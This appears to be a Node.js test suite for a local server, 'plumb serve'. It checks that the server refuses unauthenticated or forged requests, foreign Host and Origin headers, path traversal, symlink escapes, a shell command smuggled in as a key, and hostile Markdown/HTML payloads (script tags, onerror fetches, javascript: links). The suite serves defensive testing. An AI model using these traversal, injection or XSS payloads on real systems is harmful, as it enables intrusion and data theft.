// Requests that `plumb serve` must refuse, and attacks that an answer must not be able to make.
import assert from "node:assert/strict";
import { once } from "node:events";
import { access, mkdir, symlink } from "node:fs/promises";
import { createServer } from "node:http";
import { after, before, describe, it } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { chooseServer, launch, openFolder, Serving, untilStatus } from "../harness/browser.js";
import { Home } from "../harness/home.js";
import { ModelServer, writes } from "../harness/scripted.js";

describe("attacks on `plumb serve`", () => {
  let home, serving, cookie, setCookie;
  const signedIn = () => ({ cookie });
  const code = ({ text }) => JSON.parse(text).code;
  before(async () => {
    home = await Home.make();
    await home.write("allowed/note.txt", "Inside.\n");
    await home.write("outside/secret.txt", "Outside.\n");
    await home.write("allowed-too/secret.txt", "Outside, with a name that begins the same.\n");
    await symlink(home.path("outside"), home.path("allowed/link"));
    serving = await Serving.start(home, home.path("allowed"));
  });
  after(async () => {
    await serving?.end();
    await home?.remove();
  });

  it("a command without the cookie is refused with 401", async () => {
    for (const name of ["settings", "libraries", "open_library", "browse", "set_key", "no_such_command"]) {
      const { status, text } = await serving.command(name, {});
      assert.equal(status, 401, name);
      assert.doesNotMatch(text, /archive|model|theme/);
    }
    assert.equal((await serving.request("/api/updates")).status, 401);
    assert.equal((await serving.request("/")).status, 401);
  });

  it("a wrong token is refused and does not use up the right one", async () => {
    const { token } = Object.fromEntries(serving.entry.searchParams);
    for (const wrong of ["", "x", token.slice(1), `${token}0`, token.replace(/./, (c) => (c === "0" ? "1" : "0"))]) {
      const { status, headers } = await serving.request(`/?token=${wrong}`);
      assert.deepEqual([status, headers["set-cookie"]], [401, undefined], `token ${wrong.length} characters long`);
    }
  });

  it("the token works once, for a protected cookie", async () => {
    const signed = await serving.signIn();
    ({ cookie } = signed);
    [setCookie] = signed.all;
    assert.match(setCookie, /HttpOnly/i);
    assert.match(setCookie, /SameSite=Strict/i);
    assert.ok(!cookie.includes(serving.entry.searchParams.get("token")), "the cookie is not the token");
    assert.equal((await serving.command("settings", {}, signedIn())).status, 200);
    const again = await serving.request(serving.entry.pathname + serving.entry.search);
    assert.deepEqual([again.status, again.headers["set-cookie"]], [401, undefined]);
  });

  it("a forged cookie is refused with 401", async () => {
    const [name, value] = cookie.split("=");
    for (const forged of [`${name}=`, `${name}=${value.slice(1)}`, `${name}=${value}0`, `x${name}=${value}`, `other=${value}`]) {
      assert.equal((await serving.command("settings", {}, { cookie: forged })).status, 401, forged.replace(value, "…"));
    }
  });

  it("another Host is refused with 403, against DNS rebinding", async () => {
    const { port } = serving.entry;
    for (const host of [
      "attacker.example",
      `attacker.example:${port}`,
      "127.0.0.1",
      `127.0.0.1:${Number(port) + 1}`,
      `127.0.0.1.attacker.example:${port}`,
    ]) {
      for (const target of ["/", serving.entry.pathname + serving.entry.search, "/index.html", "/api/updates"]) {
        assert.equal((await serving.request(target, { headers: { ...signedIn(), host } })).status, 403, `${host} ${target}`);
      }
      assert.equal((await serving.command("settings", {}, { ...signedIn(), host })).status, 403, host);
    }
  });

  it("another Origin is refused with 403, also with the cookie", async () => {
    const { port, host } = serving.entry;
    for (const origin of [
      "http://attacker.example",
      "null",
      `https://${host}`,
      `http://127.0.0.1:${Number(port) + 1}`,
      `http://${host}.attacker.example`,
    ]) {
      assert.equal((await serving.command("settings", {}, { ...signedIn(), origin })).status, 403, origin);
      assert.equal((await serving.request("/api/updates", { headers: { ...signedIn(), origin } })).status, 403, origin);
    }
    assert.equal((await serving.command("settings", {}, { ...signedIn(), origin: `http://${host}` })).status, 200);
  });

  it("a command that is not JSON is refused, against forms", async () => {
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      const { status } = await serving.command("settings", {}, { ...signedIn(), "content-type": type });
      assert.ok(status >= 400, `${type}: ${status}`);
    }
    assert.equal((await serving.request("/api/settings", { headers: signedIn() })).status, 405);
  });

  it("nothing outside the named folders can be opened or browsed", async () => {
    await mkdir(home.path("allowed/deep"));
    const outside = [
      home.path("outside"),
      home.path("allowed/../outside"),
      home.path("allowed/deep/../../outside"),
      home.path("allowed/link"),
      home.path("allowed-too"),
      home.folder,
      "/etc",
      "/",
      "/proc/self/root/etc",
      "relative",
      "",
    ];
    for (const folder of outside) {
      const browsed = await serving.command("browse", { folder }, signedIn());
      assert.deepEqual([browsed.status, code(browsed)], [422, "not_allowed"], `browse ${folder}`);
      const opened = await serving.command("open_library", { sources: [folder] }, signedIn());
      assert.equal(opened.status, 422, `open ${folder}`);
      const mixed = await serving.command("open_library", { sources: [home.path("allowed"), folder] }, signedIn());
      assert.equal(mixed.status, 422, `open the allowed one and ${folder}`);
    }
    const file = await serving.command("open_library", { sources: [home.path("outside/secret.txt")] }, signedIn());
    assert.equal(code(file), "not_allowed");
    const libraries = await serving.command("libraries", {}, signedIn());
    assert.equal(libraries.text, "[]");
  });

  it("a page cannot choose a command or variable as a key", async () => {
    for (const key of [
      { kind: "command", command: `touch '${home.path("ran")}'` },
      { kind: "env", variable: "HOME" },
    ]) {
      const model = { provider: "server", name: "m", base_url: "http://127.0.0.1:9/v1", key };
      const settings = JSON.parse((await serving.command("settings", {}, signedIn())).text);
      for (const [name, request] of [
        ["test_model", { model }],
        ["set_settings", { ...settings, model }],
        ["set_settings", { ...settings, sub_model: model }],
        ["ask", { library: "1", question: "?", mode: "auto", model }],
      ]) {
        const refused = await serving.command(name, request, signedIn());
        assert.deepEqual([refused.status, code(refused)], [422, "not_allowed"], `${name} ${key.kind}: ${refused.text}`);
      }
    }
    await assert.rejects(access(home.path("ran")));
  });

  it("a document's name cannot lead out of its library", async () => {
    const { text } = await serving.command("open_library", { sources: [home.path("allowed")] }, signedIn());
    const library = JSON.parse(text).id;
    const read = (path) => serving.command("read_lines", { library, path, start_line: 1, max_lines: 5 }, signedIn());
    assert.match((await read("note.txt")).text, /Inside/);
    for (const path of [
      "../outside/secret.txt",
      "link/secret.txt",
      home.path("outside/secret.txt"),
      "./../allowed-too/secret.txt",
      "/etc/passwd",
    ]) {
      const { status, text } = await read(path);
      assert.equal(status, 422, path);
      assert.doesNotMatch(text, /Outside\.|root:/, path);
    }
  });

  it("a model file outside the named folders is refused", async () => {
    const body = { id: "qwen2.5-coder-1.5b", from_file: home.path("outside/secret.txt") };
    const { status, text } = await serving.command("fetch_model", body, signedIn());
    assert.equal(status, 422, text);
  });

  it("pages are served with headers against framing and sniffing", async () => {
    const { headers } = await serving.request("/", { headers: signedIn() });
    assert.match(headers["content-security-policy"], /default-src 'self'/);
    assert.match(headers["content-security-policy"], /frame-ancestors 'none'/);
    assert.equal(headers["x-content-type-options"], "nosniff");
    for (const target of ["/../Cargo.toml", "/..%2f..%2fCargo.toml", "/%2e%2e/%2e%2e/etc/passwd", "/assets/../../Cargo.toml"]) {
      const { status } = await serving.request(target, { headers: signedIn() });
      assert.ok(status >= 400, `${target}: ${status}`);
    }
  });

  it("unknown and malformed commands get an error that says why", async () => {
    const unknown = await serving.command("no_such_command", {}, signedIn());
    assert.deepEqual([unknown.status, code(unknown)], [404, "unknown_command"]);
    const nonsense = await serving.command("ask", { question: 7 }, signedIn());
    assert.equal(code(nonsense), "bad_request");
  });
});

describe("an answer with hostile Markdown", () => {
  let home, server, serving, browser, page, trap;
  const hits = [];
  before(async () => {
    home = await Home.make();
    await home.write("allowed/note.txt", "Inside.\n");
    // A server on another port: any request that arrives there has left the page.
    trap = createServer((request, response) => {
      hits.push(request.url);
      response.end();
    }).listen(0, "127.0.0.1");
    await once(trap, "listening");
    const at = `http://127.0.0.1:${trap.address().port}`;
    const hostile = `Seen. ![a picture](${at}/image?secret=1) <img src="${at}/html" onerror="fetch('${at}/script')">
<script>fetch("${at}/script2")</script> <iframe src="${at}/frame"></iframe> <style>@import url(${at}/style);</style>
<svg><image href="${at}/svg"/></svg> <link rel="preload" as="image" href="${at}/preload"> <video poster="${at}/poster" src="${at}/video"></video>
[script](javascript:fetch("${at}/link")) [data](data:text/html,<script>1</script>) <a href="${at}/ping" ping="${at}/ping2">x</a>
![ref][r] [[note.txt#L1]] [[<img src=${at}/cite>#L1]]

[r]: ${at}/reference`;
    server = await ModelServer.start(home, [writes("", `FINAL(${JSON.stringify(hostile)})`)]);
    serving = await Serving.start(home, home.path("allowed"));
    browser = await launch();
    page = await browser.newPage();
    await page.goto(serving.entry.href);
    await chooseServer(page, server.address);
    await openFolder(page);
  });
  after(async () => {
    await browser?.close();
    await serving?.end();
    await server?.end();
    trap?.close();
    await home?.remove();
  });

  it("loads nothing from elsewhere", async () => {
    const requests = [];
    page.on("request", (request) => requests.push(request.url()));
    await page.getByRole("button", { name: /How to answer/ }).click();
    await page
      .getByRole("menuitemradio", { name: /step by step/i })
      .first()
      .click();
    await page.getByTestId("ask-input").fill("What is in there?");
    await page.getByTestId("ask-button").click();
    await untilStatus(page, "answered");
    await page.getByTestId("answer").getByText("Seen.").first().waitFor();
    await sleep(1000);
    assert.deepEqual(
      requests.filter((url) => !url.startsWith(serving.entry.origin)),
      [],
    );
    assert.deepEqual(hits, []);
  });

  it("holds no script, frame or picture, and only web links", async () => {
    const answer = page.getByTestId("answer");
    assert.equal(
      await answer.locator("script, iframe, img, svg image, style, link, form, video, object, [onerror], [ping]").count(),
      0,
    );
    const links = await answer.locator("a").evaluateAll((all) => all.map((a) => a.getAttribute("href")));
    assert.ok(
      links.every((href) => /^(https?|mailto):/.test(href ?? "")),
      String(links),
    );
    await page.screenshot({ path: new URL("../screenshots/browser-11-hostile.png", import.meta.url).pathname });
  });
});
